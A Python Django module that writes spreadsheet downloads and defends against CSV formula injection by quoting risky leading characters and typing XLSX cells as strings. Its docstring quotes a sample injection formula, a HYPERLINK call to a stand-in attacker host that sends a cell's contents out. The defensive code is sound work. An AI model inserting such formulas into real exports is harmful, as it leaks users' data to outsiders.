"""Spreadsheet downloads. Every CSV the site offers is written here, and only here.

A learner or an editor can put any text in a cell (a typed answer, a question's prompt). A
spreadsheet program opening the file runs a cell that starts with ``= + - @``, a tab or a
carriage return as a formula (``=HYPERLINK("http://evil.example/?x="&A1,"click")``), so such
text gets a leading ``'``, as OWASP's CSV-injection guidance says, and every text cell is quoted
so that no separator inside it can start a new cell. Numbers stay numbers: a computed
discrimination of -0.123 is written as a number, not as text.

An XLSX file types its cells, so there such text is stored as a string cell as it is, without the
``'``: openpyxl would otherwise take a value starting with ``=`` for a formula.
"""

import csv
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def number_or_text(value):
    """A number as it is (3 points, not 3.0), anything else as its text; None stays None."""
    if value is None:
        return None
    if isinstance(value, float) and value.is_integer():
        return int(value)
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    return str(value)


def spreadsheet_cell(value):
    """``value`` as a CSV cell no spreadsheet runs: numbers as they are, text neutralised, None empty."""
    value = number_or_text(value)
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_response(filename, header, rows):
    """A CSV download: UTF-8 with a byte-order mark (so spreadsheet programs read Korean right)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in [header, *rows]:
        writer.writerow([spreadsheet_cell(value) for value in row])
    return response


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(filename, header, rows):
    """An XLSX download: the header in bold, numbers as numbers, every text as a string cell
    (never a formula), with the control characters XLSX cannot hold removed."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(filename.rsplit(".", 1)[0][:31])
    bold = Font(bold=True)
    for index, row in enumerate([header, *rows]):
        cells = []
        for value in row:
            value = number_or_text(value)
            cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value)
            if isinstance(value, str):
                cell.data_type = "s"
            if index == 0:
                cell.font = bold
            cells.append(cell)
        sheet.append(cells)
    response = HttpResponse(content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    workbook.save(response)
    return response
